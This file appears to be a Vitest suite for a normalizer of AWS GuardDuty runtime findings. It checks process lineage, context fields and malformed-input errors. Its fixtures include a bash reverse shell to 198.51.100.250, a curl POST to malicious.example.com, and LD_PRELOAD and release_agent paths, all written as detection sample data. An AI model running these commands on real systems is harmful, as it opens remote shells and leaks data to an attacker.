import { describe, expect, it } from 'vitest';
import { normalizeFinding } from '../../src/normalize/index.js';
import { fixtureJson, formatError, withValue } from '../helpers/fixtures.js';

/** A real (hand-sanitized) PrivilegeEscalation:Runtime/DockerSocketAccessed finding with every context field. */
const dockerSocket = () => fixtureJson('elastic-integrations', '21');
/** Execution:Runtime/ReverseShell on ECS Fargate, as an EventBridge event, with a two-step lineage. */
const reverseShell = () => fixtureJson('documented', '06');
/** The same finding in ASFF, runtime details flattened into ProductFields. */
const asffReverseShell = () => fixtureJson('documented', '12');

const PROCESS = ['detail', 'service', 'runtimeDetails', 'process'];
const ASFF_FIELDS = ['detail', 'findings', 0, 'ProductFields'];

describe('runtime process (runtimeDetails.process)', () => {
  it('reads the process and its lineage, nearest ancestor first', () => {
    expect(normalizeFinding(reverseShell()).process).toEqual({
      name: 'bash',
      executablePath: '/usr/bin/bash',
      executableSha256: 'f7a2c9e4b1d6a3f8c5e0b7d2a9f4c1e6b3d8a5f0c7e2b9d4a1f6c3e8b5d0a7f2',
      pid: 7245,
      namespacePid: 41,
      user: 'root',
      userId: 0,
      euid: 0,
      pwd: '/app',
      startTime: '2025-02-15T08:10:01.512Z',
      uuid: '8d1c4a7e-2b5f-4e8a-9c3d-6f0b2e5a8d1c',
      parentUuid: '3f6a9c2e-5b8d-4e1a-8f4c-7a0d3b6e9f2a',
      lineage: [
        {
          name: 'sh',
          executablePath: '/usr/bin/dash',
          pid: 7244,
          namespacePid: 40,
          userId: 0,
          euid: 0,
          startTime: '2025-02-15T08:10:01.204Z',
          uuid: '3f6a9c2e-5b8d-4e1a-8f4c-7a0d3b6e9f2a',
          parentUuid: 'c2e5a8d1-4f7b-4a0c-9e3f-6b9d2a5c8e1f',
        },
        {
          name: 'node',
          executablePath: '/usr/local/bin/node',
          pid: 6901,
          namespacePid: 1,
          userId: 1000,
          euid: 1000,
          startTime: '2025-02-15T08:00:16.007Z',
          uuid: 'c2e5a8d1-4f7b-4a0c-9e3f-6b9d2a5c8e1f',
          parentUuid: '5a8d1c4f-7b0a-4e3c-8f6b-9d2e5a8c1f4b',
        },
      ],
    });
  });

  it('reads the documented fields of lineage entries and leaves the rest in raw', () => {
    // The source's lineage uses ancestorPid/ancestorName, which GuardDuty does not document.
    const { process } = normalizeFinding(dockerSocket());

    expect(process).toMatchObject({ name: 'sshd', pid: 2345, user: 'admin', userId: 1000, euid: 1000 });
    expect(process?.lineage).toEqual([
      { parentUuid: 'f7c2b111-4355-45f2-8462-3e418af0a1cc' },
      { parentUuid: 'a23f2d33-9b4e-4e18-b18e-5b4b25efce88' },
    ]);
    expect(process?.startTime).toBe('2024-10-04T04:06:30.377Z');
  });

  it('gives no process or context to findings without runtime details', () => {
    const finding = normalizeFinding(fixtureJson('elastic-integrations', '44'));

    expect(finding.process).toBeUndefined();
    expect(finding.runtimeContext).toBeUndefined();
  });

  it('reads the process Security Hub flattened into ProductFields', () => {
    const { process, runtimeContext } = normalizeFinding(asffReverseShell());

    expect(process).toEqual({
      name: 'bash',
      executablePath: '/usr/bin/bash',
      executableSha256: 'f7a2c9e4b1d6a3f8c5e0b7d2a9f4c1e6b3d8a5f0c7e2b9d4a1f6c3e8b5d0a7f2',
      pid: 7245,
      namespacePid: 41,
      user: 'root',
      userId: 0,
      euid: 0,
      pwd: '/app',
      startTime: '2025-02-15T08:10:01.512Z',
      uuid: '8d1c4a7e-2b5f-4e8a-9c3d-6f0b2e5a8d1c',
      parentUuid: '3f6a9c2e-5b8d-4e1a-8f4c-7a0d3b6e9f2a',
      lineage: [
        {
          name: 'sh',
          executablePath: '/usr/bin/dash',
          pid: 7244,
          userId: 0,
          uuid: '3f6a9c2e-5b8d-4e1a-8f4c-7a0d3b6e9f2a',
        },
        {
          name: 'node',
          executablePath: '/usr/local/bin/node',
          pid: 6901,
          userId: 1000,
          uuid: 'c2e5a8d1-4f7b-4a0c-9e3f-6b9d2a5c8e1f',
        },
      ],
    });
    expect(runtimeContext).toEqual({ commandLineExample: 'bash -i >& /dev/tcp/198.51.100.250/9001 0>&1' });
  });
});

describe('runtime context (runtimeDetails.context)', () => {
  it('lifts every documented context field, processes included', () => {
    expect(normalizeFinding(dockerSocket()).runtimeContext).toEqual({
      addressFamily: 'AF_INET',
      commandLineExample: '/usr/bin/curl -X POST http://malicious.example.com',
      fileSystemType: 'ext4',
      flags: ['ro'],
      ianaProtocolNumber: 6,
      ldPreloadValue: '/usr/lib/libmalicious.so',
      libraryPath: '/usr/lib/libc.so.6',
      memoryRegions: ['heap', 'stack'],
      modifiedAt: '2024-10-07T18:45:30.000Z',
      modifyingProcess: { name: 'bash', pid: 2451, user: 'root' },
      moduleFilePath: '/lib/modules/5.15.0-1023-generic/kernel/net/ipv4/netfilter/ipt_MAL.so',
      moduleName: 'ipt_MAL',
      moduleSha256: '3f79bb7b435b05321651daef713b4ea0',
      mountSource: '/dev/sda1',
      mountTarget: '/mnt/data',
      releaseAgentPath: '/mnt/container/release_agent',
      runcBinaryPath: '/usr/sbin/runc',
      scriptPath: '/usr/local/bin/malicious_script.sh',
      serviceName: 'firewalld',
      shellHistoryFilePath: '/root/.bash_history',
      socketPath: '/var/run/docker.sock',
      targetProcess: { name: 'sshd', pid: 3124, user: 'admin' },
      threatFilePath: '/tmp/malicious_file.bin',
      toolCategory: 'Backdoor Tool',
      toolName: 'SSH Backdoor',
    });
  });

  it('reads the file operation fields and a target process lineage', () => {
    const input = withValue(reverseShell(), ['detail', 'service', 'runtimeDetails', 'context'], {
      fileOperation: 'MODIFY',
      filePath: '/etc/ld.so.preload',
      relatedFilePaths: ['/tmp/libhide.so'],
      targetProcess: { name: 'sshd', pid: 812, lineage: [{ name: 'systemd', pid: 1 }] },
    });

    expect(normalizeFinding(input).runtimeContext).toEqual({
      fileOperation: 'MODIFY',
      filePath: '/etc/ld.so.preload',
      relatedFilePaths: ['/tmp/libhide.so'],
      targetProcess: { name: 'sshd', pid: 812, lineage: [{ name: 'systemd', pid: 1 }] },
    });
  });

  it('gives no context when the context names nothing', () => {
    const input = withValue(reverseShell(), ['detail', 'service', 'runtimeDetails', 'context'], {});

    expect(normalizeFinding(input).runtimeContext).toBeUndefined();
  });
});

describe('malformed runtime details', () => {
  it.each([
    [[...PROCESS, 'pid'], -1],
    [[...PROCESS, 'pid'], 2.5],
    [[...PROCESS, 'pid'], 4_294_967_296],
    [[...PROCESS, 'userId'], 'root'],
    [[...PROCESS, 'startTime'], 'yesterday'],
    [[...PROCESS, 'lineage'], { name: 'sh' }],
    [[...PROCESS, 'lineage', 0], 'sh'],
    [[...PROCESS, 'lineage', 1, 'euid'], -5],
    [['detail', 'service', 'runtimeDetails', 'context'], 'ro'],
    [['detail', 'service', 'runtimeDetails'], []],
  ] as const)('refuses %j = %j with a typed error at that node', (keys, value) => {
    const error = formatError(() => normalizeFinding(withValue(reverseShell(), [...keys], value)));

    expect(error.code).toBe('FINDING_INVALID');
    expect(error.path).toBe(`/${keys.join('/')}`);
  });

  it.each([
    [['detail', 'service', 'runtimeDetails', 'context', 'flags'], 'ro'],
    [['detail', 'service', 'runtimeDetails', 'context', 'ianaProtocolNumber'], 256],
    [['detail', 'service', 'runtimeDetails', 'context', 'modifyingProcess'], 'bash'],
  ] as const)('refuses context %j = %j', (keys, value) => {
    const input = withValue(reverseShell(), ['detail', 'service', 'runtimeDetails', 'context'], {
      flags: [],
      ianaProtocolNumber: 6,
    });

    expect(formatError(() => normalizeFinding(withValue(input, [...keys], value))).path).toBe(
      `/${keys.join('/')}`,
    );
  });

  it('refuses a lineage longer than any process tree', () => {
    const lineage = Array.from({ length: 501 }, (_, pid) => ({ pid }));

    const error = formatError(() =>
      normalizeFinding(withValue(reverseShell(), [...PROCESS, 'lineage'], lineage)),
    );

    expect(error.path).toBe('/detail/service/runtimeDetails/process/lineage');
  });

  it('names the ProductFields key of a bad flattened value', () => {
    const key = 'aws/guardduty/service/runtimeDetails/process/lineage.1_/pid';

    const error = formatError(() =>
      normalizeFinding(withValue(asffReverseShell(), [...ASFF_FIELDS, key], 'init')),
    );

    expect(error.path).toBe(
      '/detail/findings/0/ProductFields/aws~1guardduty~1service~1runtimeDetails~1process~1lineage.1_~1pid',
    );
  });

  it('refuses a flattened list index no finding has', () => {
    const key = 'aws/guardduty/service/runtimeDetails/process/lineage.100000_/pid';

    const error = formatError(() =>
      normalizeFinding(withValue(asffReverseShell(), [...ASFF_FIELDS, key], '1')),
    );

    expect(error.message).toContain('list index 100000');
  });
});
